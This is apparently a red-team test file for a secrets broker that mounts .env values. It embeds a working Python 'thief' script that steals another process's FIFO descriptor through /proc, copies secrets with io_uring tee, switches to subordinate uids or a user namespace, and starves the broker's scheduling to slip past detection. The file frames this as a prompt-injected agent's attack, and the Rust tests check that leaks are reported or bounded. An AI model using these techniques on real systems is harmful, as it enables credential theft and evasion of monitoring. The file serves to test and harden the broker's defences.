//! Red team s10 (`.env` mounts, after the io_uring look): a prompt-injected agent with the
//! human's uid, a shell and `/proc`, trying to copy more than one piece of a mount's values
//! unreported now that a process with io_uring worker threads stops a read. A held attack is
//! a passing test; one that still works is kept `#[ignore = "LEAK: ..."]` (it fails today),
//! or `#[ignore = "LIMIT (docs/mounts.md ...)"]` when the docs say why it cannot be held;
//! even then what the broker says may be exposed is checked to be an upper bound of what the
//! thief copied ([`assert_report_true`], first in [`assert_held`]).
#![allow(clippy::print_stderr)] // the figures of each attempt (counts only, never a value)

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::harness::{Home, text, wait_output};
use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
use crate::redteam_s9c::{HONEST, caught, longest_run, wait_ready};

/// The agent's side: a copier through `IORING_OP_TEE` on the mount's FIFO held only in an
/// io_uring ring (opened as `/proc/READER/fd/N` while the card waits, registered, closed),
/// as in `redteam_s9c.rs`, in one of two modes:
///
/// - `subuid UID`: once it holds the descriptor it becomes `UID` (a subordinate uid: what
///   `newuidmap` and `/etc/subuid` give every desktop user for rootless containers; here
///   the test runs as root and calls `setresuid`), then makes its ring and keeps 16 tees
///   waiting beside the reader's `read`, with two busy loops per CPU at normal priority.
/// - `userns UID`: as `subuid`, but the other uid is reached in a user namespace whose map
///   also holds the user's uid (`UID` itself is in no range).
/// - `subuid-vanish UID`: as `subuid-late`, but each piece is teed by a new thread that
///   ends at once (its io-wq worker with it): workers that live between two looks.
/// - `subuid-late UID`: the same, but its tees start only at the first piece (its own
///   inotify watch, added before it changes uid), so its workers appear during the read.
/// - `idle`: at the first piece (the FIFO's `IN_MODIFY`, its own inotify watch added through
///   `/proc/READER/fd/N`, which opens nothing) it pins the broker's threads (`run/broker.pid`)
///   and the reader's to CPU 0 (the broker's own affinity changes with them, so the reader
///   runs on no fewer CPUs than the broker), puts the broker's threads under `SCHED_IDLE`
///   (a same-uid process may do both to another), and keeps CPU 0 busy with two busy loops at
///   normal priority; it runs alone on CPU 1. Then on each `IN_MODIFY` a new thread submits
///   one non-blocking tee (`SPLICE_F_NONBLOCK`: `EAGAIN` at once on an empty pipe) and exits,
///   which ends its io-wq worker: a worker that lives between two of the starved broker's
///   looks.
///
/// Touches `argv[3]` once in position. Prints what it copied on stdout (the test only
/// searches it, never shows it), `copies N` (distinct pieces) on stderr.
const THIEF: &str = r#"
import os, sys, time, ctypes, mmap, struct, signal, threading, select
path, mode, ready, home = sys.argv[1:5]
words = mode.split()
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
me = os.getpid(); pid = fdn = None
t0 = time.time()
while pid is None and time.time() - t0 < 20:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            for f in os.listdir(f"/proc/{p}/fd"):
                try:
                    s = os.stat(f"/proc/{p}/fd/{f}")
                    if s.st_dev == dev and s.st_ino == ino:
                        fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
                        if int(fl.split()[1], 8) & 3 == 0:
                            pid, fdn = int(p), f
                except OSError:
                    pass
        except OSError:
            pass
    time.sleep(0.01)
assert pid is not None, "no reader"
time.sleep(0.3)
src = f"/proc/{pid}/fd/{fdn}"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 32, params)
assert ring >= 0, ctypes.get_errno()
sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
arr = (ctypes.c_int * 1)(fd)
assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
os.close(fd)  # only the ring holds the FIFO now
SLOTS = 16
pipes = [os.pipe() for _ in range(SLOTS)]
IN_FIXED = 1 << 31
NONBLOCK = 2
def submit(slot, flags=0):
    tail = struct.unpack_from("I", sqr, sq_off[1])[0]
    mask = struct.unpack_from("I", sqr, sq_off[2])[0]
    i = tail & mask
    sqe = bytearray(64)
    # IORING_OP_TEE (33): fd = the agent's own pipe, splice_fd_in = fixed file 0.
    struct.pack_into("BBHiQQIIQ", sqe, 0, 33, 0, 0, pipes[slot][1], 0, 0, 1 << 16, IN_FIXED | flags, slot)
    struct.pack_into("i", sqe, 44, 0)
    sqes[i * 64:(i + 1) * 64] = bytes(sqe)
    struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
    struct.pack_into("I", sqr, sq_off[1], tail + 1)
    libc.syscall(426, ring, 1, 0, 0, None, 0)
def complete():
    while struct.unpack_from("I", cqr, cq_off[1])[0] == struct.unpack_from("I", cqr, cq_off[0])[0]:
        libc.syscall(426, ring, 0, 1, 1, None, 0)
    head = struct.unpack_from("I", cqr, cq_off[0])[0]
    cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
    slot, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
    struct.pack_into("I", cqr, cq_off[0], head + 1)
    return slot, res
spinners = []
def spin(cpus, n):
    for _ in range(n):
        c = os.fork()
        if c == 0:
            ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: gone with the thief
            if cpus is not None:
                os.sched_setaffinity(0, cpus)
            while True:
                pass
        spinners.append(c)
data = b""; copies = 0; last = None
def keep(slot, res):
    global data, copies, last
    got = b""
    while len(got) < res:
        got += os.read(pipes[slot][0], res - len(got))
    if got != last:  # the same piece seen by several tees
        data += got; copies += 1; last = got
def alive():
    return os.path.exists(f"/proc/{pid}")
if words[0] in ("subuid", "subuid-late", "subuid-vanish", "userns"):
    if words[0] in ("subuid-late", "subuid-vanish"):
        # Told of the first piece by its own inotify watch (added as the user, through
        # /proc/READER/fd/N, which opens nothing), then its tees start under the other uid.
        ino_fd = libc.inotify_init1(0)
        assert ino_fd >= 0
        assert libc.inotify_add_watch(ino_fd, src.encode(), 0x2) >= 0
    open(ready, "w").close()
    # Every tee and worker from now on is the subordinate uid's (the descriptor and the ring
    # were passed to it: SCM_RIGHTS in real life).
    uid = int(words[1])
    if words[0] == "userns":
        # A user namespace of its own whose map sends its uid 1 to `uid` (outside every
        # range) and its 0 to the user's uid; the map is written from outside by a helper
        # forked before, as only a process privileged in the parent may write two lines.
        go_r, go_w = os.pipe()
        helper = os.fork()
        if helper == 0:
            os.read(go_r, 1)
            for m in ("uid_map", "gid_map"):
                with open(f"/proc/{me}/{m}", "w") as f:
                    f.write(f"0 0 1\n1 {uid} 1\n")
            os._exit(0)
        assert libc.unshare(0x10000000) == 0, ctypes.get_errno()  # CLONE_NEWUSER
        os.write(go_w, b"x")
        os.waitpid(helper, 0)
        uid = 1
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    spin(None, 2 * len(os.sched_getaffinity(0)))
    if words[0] == "subuid-vanish":
        # On each piece, one non-blocking tee from a thread that ends at once (its worker
        # with it), under the other uid.
        def one():
            submit(0, NONBLOCK)
            slot, res = complete()
            if res > 0:
                keep(slot, res)
        t0 = time.time()
        while time.time() - t0 < 40:
            r, _, _ = select.select([ino_fd], [], [], 0.05)
            if not r:
                if not alive():
                    break
                continue
            os.read(ino_fd, 4096)
            th = threading.Thread(target=one); th.start(); th.join()
        words = ["done"]
    if words[0] == "subuid-late":
        r, _, _ = select.select([ino_fd], [], [], 30)
        assert r, "no piece"
    for s in range(SLOTS if words[0] != "done" else 0):
        submit(s)
    t0 = time.time()
    while words[0] != "done" and time.time() - t0 < 40:
        slot, res = complete()
        if res > 0:
            keep(slot, res)
        elif res == 0 and data:
            break  # end of the text: the broker closed its end
        elif not alive():
            break
        elif res == 0:
            time.sleep(0.001)
        submit(slot)
else:
    ino_fd = libc.inotify_init1(0)
    assert ino_fd >= 0
    assert libc.inotify_add_watch(ino_fd, src.encode(), 0x2) >= 0  # IN_MODIFY, no opening
    broker = int(open(os.path.join(home, "run", "broker.pid")).read().split()[0])
    open(ready, "w").close()
    def tids(p):
        try:
            return [int(t) for t in os.listdir(f"/proc/{p}/task")]
        except OSError:
            return []
    def one():
        submit(0, NONBLOCK)
        slot, res = complete()
        if res > 0:
            keep(slot, res)
    starved = False
    t0 = time.time()
    while time.time() - t0 < 40:
        r, _, _ = select.select([ino_fd], [], [], 0.05)
        if not r:
            if not alive():
                break
            continue
        os.read(ino_fd, 4096)
        if not starved and words[0] == "cgroup":
            # A CPU cgroup of the agent's with the lowest weight (v1 `cpu.shares`, v2
            # `cpu.weight` in a delegated subtree): the broker's and the reader's threads
            # move there; /proc/PID/stat shows no change of priority or CPUs.
            cg = words[1]
            os.makedirs(cg, exist_ok=True)
            open(os.path.join(cg, "cpu.shares"), "w").write("64")
            for t in tids(broker) + tids(pid):
                try:
                    open(os.path.join(cg, "tasks"), "w").write(str(t))
                except OSError:
                    pass
            spin(None, 2 * len(os.sched_getaffinity(0)))
            starved = True
            continue
        if not starved and words[0] == "fair":
            # Nothing the broker could refuse: busy loops at normal priority on every CPU.
            spin(None, 2 * len(os.sched_getaffinity(0)))
            starved = True
            continue
        if not starved:
            # The first piece (a name) is in the pipe: starve the broker, slow the reader.
            os.sched_setaffinity(0, {1})
            for t in tids(broker):
                try:
                    os.sched_setaffinity(t, {1})
                    os.sched_setscheduler(t, os.SCHED_IDLE, os.sched_param(0))
                except OSError:
                    pass
            for t in tids(pid):
                try:
                    os.sched_setaffinity(t, {0})
                except OSError:
                    pass
            spin({0}, 3)
            starved = True
            continue
        # One tee from a thread that ends at once: its io-wq worker ends with it.
        th = threading.Thread(target=one); th.start(); th.join()
for c in spinners:
    os.kill(c, signal.SIGKILL)
    os.waitpid(c, 0)
sys.stderr.write(f"copies {copies}\n")
sys.stdout.buffer.write(data)
"#;

/// What a copy attempt came to.
pub(crate) struct Copy {
    /// Longest run of consecutive bytes of one value found in what the thief copied.
    pub(crate) longest: usize,
    /// How many bytes the thief copied.
    pub(crate) bytes: usize,
    /// How many distinct pieces it copied.
    pub(crate) copies: usize,
    /// What the honest reader printed (how many bytes it read).
    pub(crate) honest: String,
    /// The audit log.
    pub(crate) audit: String,
    /// `keyveil mounts`.
    pub(crate) mounts: String,
    /// Names of the values of which the thief copied bytes found in no other value (at least
    /// 3 in a row).
    pub(crate) got_values: Vec<&'static str>,
}

/// Runs the thief in `mode` against one honest read, approved once the thief is in position.
fn copy(mode: &str) -> Copy {
    copy_with(mode, |_| {})
}

/// As [`copy`], with `setup` run on the home before the mount (a subordinate uid file, ...).
pub(crate) fn copy_with(mode: &str, setup: impl FnOnce(&Home)) -> Copy {
    let h = Home::new();
    // The layers behind the count of openings (`redteam_s11_mounts.rs`).
    h.without_open_count();
    setup(&h);
    let vals = values();
    store(&h, &vals);
    let p = Project::with_io_uring();
    mount(&h, &p);
    let ready = p.tmp.path().join("thief-ready");
    let thief = Command::new("python3")
        .args([
            "-c",
            THIEF,
            p.env_file().to_str().unwrap(),
            mode,
            ready.to_str().unwrap(),
            h.path().to_str().unwrap(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let reader = p.reader(&["python3", "-c", HONEST], &[]);
    let card = wait_card(&h);
    wait_ready(&p, "thief-ready");
    approve_card(&h, &card, &[]);
    let honest = finished(reader);
    let stolen = wait_output(thief, Duration::from_secs(60));
    assert!(
        stolen.status.success(),
        "thief failed: {}",
        text(&stolen.stderr)
    );
    let copies = text(&stolen.stderr)
        .lines()
        .find_map(|l| l.strip_prefix("copies "))
        .and_then(|n| n.trim().parse::<usize>().ok())
        .unwrap_or(0);
    let c = Copy {
        longest: vals
            .iter()
            .map(|(_, v)| longest_run(&stolen.stdout, v.as_bytes()))
            .max()
            .unwrap_or(0),
        bytes: stolen.stdout.len(),
        copies,
        honest: text(&honest.stdout),
        audit: h.audit_text(),
        mounts: h.ok(&["mounts"]),
        got_values: vals
            .iter()
            .filter(|(name, v)| {
                let others: Vec<&str> = vals
                    .iter()
                    .filter(|(n, _)| n != name)
                    .map(|(_, o)| o.as_str())
                    .collect();
                unique_run(&stolen.stdout, v, &others) >= 3
            })
            .map(|(n, _)| *n)
            .collect(),
    };
    let (said, named) = stated(&c.audit);
    eprintln!(
        "{mode}: {} pieces, {} bytes copied, longest run of a value {}, reported {}; said up to {said} bytes of {named:?}",
        c.copies,
        c.bytes,
        c.longest,
        caught(&c.audit) || starved_seen(&c.audit)
    );
    c
}

/// Longest run of consecutive bytes of `value` found in `hay` that occurs in none of `others`
/// (so that it can only have come from `value`).
fn unique_run(hay: &[u8], value: &str, others: &[&str]) -> usize {
    let v = value.as_bytes();
    let mut best = 0;
    for start in 0..v.len() {
        for end in start + best + 1..=v.len() {
            let w = &v[start..end];
            if !hay.windows(w.len()).any(|x| x == w) {
                break;
            }
            if others
                .iter()
                .all(|o| !o.as_bytes().windows(w.len()).any(|x| x == w))
            {
                best = end - start;
            }
        }
    }
    best
}

/// What the broker said may be exposed: the most bytes and the values named, from the
/// stopped read's `mount_read_suspect`, or else from the `uncleared` account of its
/// `mount_read` or `mount_reclaimed`.
fn stated(audit: &str) -> (u64, Vec<String>) {
    let entries: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let names = |v: &serde_json::Value| -> Vec<String> {
        v.as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default()
    };
    let ev = |e: &serde_json::Value, k: &str| e.get("event").and_then(|x| x.as_str()) == Some(k);
    if let Some(e) = entries.iter().rev().find(|e| ev(e, "mount_read_suspect")) {
        return (
            e["bytes_exposed_at_most"].as_u64().unwrap_or(0),
            names(&e["values_partly_exposed"]),
        );
    }
    match entries
        .iter()
        .rev()
        .find(|e| ev(e, "mount_read") || ev(e, "mount_reclaimed"))
    {
        Some(e) if !e["uncleared"].is_null() => (
            e["uncleared"]["bytes"].as_u64().unwrap_or(0),
            names(&e["uncleared"]["values"]),
        ),
        _ => (0, Vec::new()),
    }
}

/// What the broker says may be exposed is an upper bound of what the thief copied: at least
/// its bytes, and every value it copied part of named (in the note of `keyveil mounts`, to
/// rotate, when the read was stopped).
fn assert_report_true(c: &Copy) {
    let (bytes, names) = stated(&c.audit);
    assert!(
        c.bytes as u64 <= bytes,
        "the thief copied {} bytes in {} pieces; the broker said at most {bytes} (values {names:?}); mounts: {}",
        c.bytes,
        c.copies,
        c.mounts
    );
    for v in &c.got_values {
        assert!(
            names.iter().any(|n| n == v),
            "the thief copied part of {v}, which the broker did not name ({names:?}); mounts: {}",
            c.mounts
        );
        if c.audit.contains("\"mount_read_suspect\"") {
            assert!(
                c.mounts.contains(&format!("up to {bytes} bytes")) && c.mounts.contains(v),
                "the note does not say up to {bytes} bytes and {v}: {}",
                c.mounts
            );
        }
    }
}

/// Whether the audit says a read was stopped because the broker's own scheduling was changed.
fn starved_seen(audit: &str) -> bool {
    audit.contains("\"mount_read_suspect\"")
        && audit.contains("where it cannot look for io_uring threads in time")
}

/// What the look claims: a copier through io_uring copies at most the one piece in the pipe
/// when it is seen, and what it copied is reported.
pub(crate) fn assert_held(c: &Copy) {
    assert_report_true(c);
    let seen = caught(&c.audit) || starved_seen(&c.audit);
    assert!(
        c.bytes == 0 || seen,
        "the thief copied {} bytes in {} pieces unreported (longest run of one value: {} bytes; the honest reader read {}); mounts: {}",
        c.bytes,
        c.copies,
        c.longest,
        c.honest,
        c.mounts
    );
    assert!(
        c.copies <= 1 && c.bytes <= 7 && c.longest <= 4,
        "the thief copied {} pieces, {} bytes, {} consecutive bytes of a value",
        c.copies,
        c.bytes,
        c.longest
    );
}

/// The agent passes the FIFO (held through `/proc/READER/fd/N` while the card waits) to a
/// process of a subordinate uid it owns (`newuidmap`, `/etc/subuid`: rootless podman on any
/// desktop), whose tees run on io-wq workers. Was a LEAK while the look counted only the
/// broker's and the reader's uids (5 of 5 runs: 1 to 3 pieces, 4 to 12 bytes, up to 8
/// consecutive bytes of one value per read, never reported). Held since: the look counts
/// every process with a uid in the user's `/etc/subuid` ranges (here the broker's
/// `KEYVEIL_TEST_SUBUID`, a line by user name).
#[test]
fn a_tee_thief_under_a_subordinate_uid_is_reported() {
    let c = copy_with("subuid 100000", |h| {
        std::fs::write(h.path().join("subuid"), "root:100000:65536\n").unwrap();
    });
    assert_held(&c);
}

/// Attack on the subordinate uid look (s10, round 2): the range named by number
/// (`UID:FIRST:COUNT`, as `usermod --add-subuids` may write it) rather than by name.
#[test]
fn a_tee_thief_under_a_subordinate_uid_named_by_number_is_reported() {
    let c = copy_with("subuid 100000", |h| {
        std::fs::write(h.path().join("subuid"), "# ranges\n0:100000:65536\n").unwrap();
    });
    assert_held(&c);
}

/// Attack on the subordinate uid look (s10, round 2): the tees under the other uid start
/// only once the text flows, so their workers are found by a look during the pieces (the
/// pids handed out since the one before), not by the scan before the first piece.
#[test]
fn a_tee_thief_under_a_subordinate_uid_that_starts_during_the_read_is_reported() {
    let c = copy_with("subuid-late 100000", |h| {
        std::fs::write(h.path().join("subuid"), "root:100000:65536\n").unwrap();
    });
    assert_held(&c);
    assert!(c.bytes == 0 || caught(&c.audit), "{}", c.audit);
}

/// Attack on the subordinate uid look (s10, round 2): under the subordinate uid, each piece
/// teed from a thread that ends at once, so that its worker lives between two looks (the
/// LIMIT of `a_tee_thief_with_a_fairly_loaded_broker_is_reported`, now under another uid).
/// Whatever it copies, what the broker says may be exposed holds it.
#[test]
fn what_a_vanishing_tee_thief_under_a_subordinate_uid_copied_is_never_understated() {
    let c = copy_with("subuid-vanish 100000", |h| {
        std::fs::write(h.path().join("subuid"), "root:100000:65536\n").unwrap();
    });
    assert_report_true(&c);
}

/// Attack on the subordinate uid look (s10, round 2): the copier's uid is in no range, but
/// it runs in a user namespace whose map also maps the user's uid (made here by root; a
/// privileged helper of the system could make one). The look counts a process in a user
/// namespace whose `/proc/PID/uid_map` maps the user's uid or ranges.
#[test]
fn a_tee_thief_in_a_user_namespace_mapping_the_users_uid_is_reported() {
    let c = copy("userns 300000");
    assert_held(&c);
}

/// Attack on the subordinate uid look (s10, round 2): a range file the broker cannot parse
/// (here a line cut short; for the agent, nothing it can write: `/etc/subuid` is root's)
/// must not make the look skip every other uid: the read is refused before the card, with
/// a `hint:`, and the reader reads nothing.
#[test]
fn an_unparsable_subordinate_uid_file_refuses_the_read_with_a_hint() {
    let h = Home::new();
    store(&h, &values());
    std::fs::write(h.path().join("subuid"), "root:100000\n").unwrap();
    let p = Project::with_io_uring();
    mount(&h, &p);
    let reader = p.reader(&["python3", "-c", HONEST], &[]);
    let honest = finished(reader);
    assert_eq!(text(&honest.stdout), "0", "the reader read nothing");
    let mounts = h.ok(&["mounts"]);
    assert!(
        mounts.contains("cannot be read as subordinate uid ranges") && mounts.contains("hint: "),
        "{mounts}"
    );
    assert!(h.audit_text().contains("\"mount_refused\""));
}

/// The broker looks for workers only when it runs: the agent pins the broker and the reader
/// to one CPU, puts the broker under `SCHED_IDLE` beside busy loops there (nothing the broker
/// refuses a read for: it looks at the reader's priority, not its own), and from the other
/// CPU tees each piece from a worker that ends before the starved broker looks again
/// (the broker cannot look while the thief's threads keep the CPU it shares with them).
/// Was a LEAK (3 of 3 runs: 4, 8 and 21 pieces, 16 to 84 bytes, up to 19 consecutive bytes
/// of one value per read, audited as a plain `mount_read`). Held since: the broker stops a
/// read while one of its own threads runs under `SCHED_IDLE`/`SCHED_BATCH`, a positive nice
/// or on fewer CPUs than pid 1 (looked at with each io_uring look), reported as a possible
/// theft of the piece in the pipe, the grant ended.
#[test]
fn a_tee_thief_with_a_starved_broker_is_reported() {
    let c = copy("idle");
    assert_held(&c);
    assert!(starved_seen(&c.audit), "{}", c.audit);
    assert!(c.audit.contains("may have been read by another process"));
    assert!(c.mounts.contains("possible theft"), "{}", c.mounts);
    assert!(
        c.mounts.contains("changed the broker's scheduling"),
        "{}",
        c.mounts
    );
}

/// As above without touching the broker's scheduling: busy loops at normal priority on
/// every CPU, a per-piece worker racing the broker's fair share. Measured (7 runs): 6 copied
/// nothing (the workers seen in 5); 1 copied 7 pieces, 27 bytes, 25 consecutive bytes of one
/// value before a worker was seen: reported and the grant ended, but `keyveil mounts` said
/// up to 4 bytes of one value may be exposed. Since, a look that finds a pid handed out
/// since the one before gone from `/proc` (a task that lived and died meanwhile, maybe a
/// worker) cannot vouch for the piece in the pipe: a stop names every such piece as
/// possibly exposed, and a whole read audits them (`uncleared`). Stopping at such a look
/// would hold this replay, but it happens in honest reads all the time (measured by
/// [`honest_reads_beside_short_lived_processes_are_served_whole`]): a limit, kept ignored.
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: workers made and ended between two looks): a task gone before the next look has no uid left to read, and ordinary programs make such tasks all the time (honest_reads_beside_short_lived_processes_are_served_whole), so the read cannot stop for one; what such workers copy is within the bound the audit and the note state (checked by assert_held first, and by what_a_fairly_loaded_tee_thief_copied_is_never_understated)"]
fn a_tee_thief_with_a_fairly_loaded_broker_is_reported() {
    assert_held(&copy("fair"));
}

/// Whatever the fairly loaded thief copies (some runs: nothing; one in 7: several pieces
/// before a worker was seen), what the broker says may be exposed is an upper bound of it:
/// at least its bytes, every value it copied part of named, in the audit and (when the read
/// was stopped) in the note of `keyveil mounts` that says what to rotate. Was false: one run
/// copied 7 pieces (25 consecutive bytes of one value) and the note said up to 4 bytes.
#[test]
fn what_a_fairly_loaded_tee_thief_copied_is_never_understated() {
    let c = copy("fair");
    let (bytes, names) = stated(&c.audit);
    eprintln!("stated: up to {bytes} bytes, values {names:?}");
    assert_report_true(&c);
}

/// The broker and the reader moved into a CPU cgroup of the lowest weight, which their
/// `/proc/PID/stat` does not show (the broker looks at policy, nice and CPUs only), the
/// thief and busy loops at normal weight. Measured (3 runs, `cpu.shares` 64 against 1024):
/// 1, 1 and 0 pieces copied, the first two reported. At `cpu.shares` 2 nothing finished:
/// the reader read nothing within 30 s (3 runs), a denial of service, no copy. Later runs
/// (another helper, on this and the unchanged merge base) failed 2 of 3 times: 2–7 pieces
/// copied, some unreported; the same gap as `a_tee_thief_with_a_fairly_loaded_broker_…`
/// (workers created and gone between two looks). With the `uncleared` account (3 runs): 3,
/// 18 and 20 pieces copied, the first two stopped and reported, the third a plain
/// `mount_read`; each time the bound stated (up to 35, 154 and 175 bytes, every value the
/// thief got part of named) held what it copied.
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: workers made and ended between two looks): a broker in a low-weight CPU cgroup (not in /proc/PID/stat) looks rarely; workers gone between two looks copied 3 to 20 pieces in 3 of 3 runs, stopped and reported in 2, every time within the bound the audit states (uncleared, or the stop's note)"]
fn a_tee_thief_with_the_broker_in_a_starved_cgroup_is_reported() {
    let cg = "/sys/fs/cgroup/cpu";
    if !std::path::Path::new(cg).join("cpu.shares").exists() {
        eprintln!("skipped: no cgroup v1 cpu controller at {cg}");
        return;
    }
    let dir = format!("{cg}/kv-s10-{}", std::process::id());
    let c = copy(&format!("cgroup {dir}"));
    // The cgroup goes once its tasks are gone (the broker stops with its home).
    let t0 = std::time::Instant::now();
    while std::fs::remove_dir(&dir).is_err() && t0.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_held(&c);
}

/// One honest read (approved with a card) while `churn` processes start and end `true` in a
/// loop (other programs of the machine: a build, a shell prompt), and how the audit's
/// `mount_read` accounts for it: `(bytes the honest reader read, uncleared pieces)`.
fn honest_read(churn: usize) -> (String, u64) {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::with_io_uring();
    mount(&h, &p);
    let loops: Vec<std::process::Child> = (0..churn)
        .map(|_| {
            Command::new("sh")
                .args(["-c", "while :; do /bin/true; done"])
                .stdin(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    let reader = p.reader(&["python3", "-c", HONEST], &[]);
    let card = wait_card(&h);
    approve_card(&h, &card, &[]);
    let honest = finished(reader);
    for mut l in loops {
        let _ = l.kill();
        let _ = l.wait();
    }
    let audit = h.audit_text();
    let pieces = audit
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|e| e["event"] == "mount_read")
        .map_or(0, |e| e["uncleared"]["pieces"].as_u64().unwrap_or(0));
    (text(&honest.stdout), pieces)
}

/// Why the two replays above stay ignored: the broker cannot tell a task that lived and died
/// between two looks from an io_uring worker of the thief (gone, it has no uid to read), and
/// ordinary programs make such tasks all the time. Stopping a read at the first such look
/// would hold both replays to one piece, but would stop honest reads too: this measures how
/// many pieces of an honest read the looks cannot vouch for, alone and beside a shell loop
/// that starts `/bin/true` (as a build or a prompt does). The read is served whole either
/// way (what is asserted); the counts are printed (measured: see docs/mounts.md).
#[test]
fn honest_reads_beside_short_lived_processes_are_served_whole() {
    for churn in [0, 1] {
        let (read, uncleared) = honest_read(churn);
        eprintln!("churn {churn}: read {read} bytes, {uncleared} pieces uncleared");
        assert!(read.parse::<usize>().is_ok_and(|n| n > 100), "{read}");
    }
}
